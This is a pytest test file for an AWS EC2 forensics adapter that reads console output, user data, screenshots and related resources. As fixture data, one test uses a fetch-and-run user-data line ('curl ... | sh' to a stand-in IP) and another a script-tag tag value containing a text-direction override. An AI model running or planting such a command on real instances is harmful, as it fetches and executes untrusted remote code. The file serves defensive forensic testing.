from __future__ import annotations

import base64
import json
from unittest.mock import patch

import boto3
import pytest
from botocore.exceptions import ClientError

from chalicelib.adapters.autoscaling import AutoScaling
from chalicelib.adapters.ec2.forensics import Ec2Forensics
from chalicelib.core.errors import AwsRefusedError
from tests.adapters.sites import AwsSite


def forensics_of(ec2: AwsSite) -> Ec2Forensics:
    groups = boto3.client("autoscaling", region_name=ec2.client.meta.region_name)
    return Ec2Forensics(ec2.client, AutoScaling(groups))


@pytest.fixture
def instance_id(ec2: AwsSite) -> str:
    vpc = ec2.make_vpc()
    return ec2.launch((vpc, (ec2.make_group(vpc),)))


def test_what_ec2_kept_of_the_console_is_read(ec2: AwsSite, instance_id: str) -> None:
    assert forensics_of(ec2).console(instance_id)


def test_user_data_are_read_as_they_were_written(ec2: AwsSite, instance_id: str) -> None:
    forensics = forensics_of(ec2)
    assert forensics.user_data(instance_id) == ""

    told = "#!/bin/sh\ncurl http://198.51.100.7/größe | sh\n".encode()
    ec2.client.modify_instance_attribute(
        InstanceId=instance_id, UserData={"Value": base64.b64encode(told)}
    )

    assert forensics.user_data(instance_id) == told.decode()


def test_user_data_that_are_no_text_are_kept_as_ec2_gives_them(
    ec2: AwsSite, instance_id: str
) -> None:
    packed = base64.b64encode(b"\x1f\x8b\xff")
    ec2.client.modify_instance_attribute(InstanceId=instance_id, UserData={"Value": packed})

    assert forensics_of(ec2).user_data(instance_id) == packed.decode()


def test_the_screen_is_kept_as_a_picture(ec2: AwsSite, instance_id: str) -> None:
    shown = forensics_of(ec2).screenshot(instance_id)

    assert shown.startswith(b"\xff\xd8")  # JPEG


def test_a_picture_that_is_none_is_left_out(ec2: AwsSite, instance_id: str) -> None:
    with patch.object(ec2.client, "get_console_screenshot", return_value={"ImageData": "x"}):
        assert forensics_of(ec2).screenshot(instance_id) == b""


def test_what_an_instance_is_attached_to_is_described(ec2: AwsSite, instance_id: str) -> None:
    before = ec2.instances.find(instance_id)
    assert before is not None
    said = json.loads(before.as_described)
    said["Tags"] = [
        {"Key": "aws:autoscaling:groupName", "Value": "web"},
        {"Key": "Name", "Value": "<script>\u202e"},
    ]

    body, refused = forensics_of(ec2).surroundings(json.dumps(said))

    found = json.loads(body)
    assert refused == ()
    assert {"IamInstanceProfileAssociations", "AutoScalingGroups"} < set(found)
    (group,) = found["SecurityGroups"]
    assert group["GroupId"] == before.interfaces[0].group_ids[0]
    assert group["IpPermissionsEgress"]
    assert [each["NetworkInterfaceId"] for each in found["NetworkInterfaces"]] == [
        before.interfaces[0].id
    ]
    assert all(found[kind] for kind in ("RouteTables", "NetworkAcls", "Volumes"))


def test_what_may_not_be_described_is_named_and_the_rest_is_there(
    ec2: AwsSite, instance_id: str
) -> None:
    before = ec2.instances.find(instance_id)
    assert before is not None
    denied = ClientError({"Error": {"Code": "UnauthorizedOperation"}}, "DescribeVolumes")

    with patch.object(ec2.client, "describe_volumes", side_effect=denied):
        body, refused = forensics_of(ec2).surroundings(before.as_described)

    assert refused == ("describe Volumes: AWS refused with UnauthorizedOperation",)
    assert "Volumes" not in json.loads(body)
    assert json.loads(body)["SecurityGroups"]


def test_an_instance_without_anything_has_nothing_around_it(ec2: AwsSite) -> None:
    body, refused = forensics_of(ec2).surroundings('{"InstanceId": "i-00000000000000000"}')

    assert (json.loads(body), refused) == ({"IamInstanceProfileAssociations": []}, ())


@pytest.mark.parametrize("read", ["console", "screenshot", "user_data"])
def test_an_instance_that_is_not_there_is_refused(ec2: AwsSite, read: str) -> None:
    with pytest.raises(AwsRefusedError):
        getattr(forensics_of(ec2), read)("i-00000000000000000")
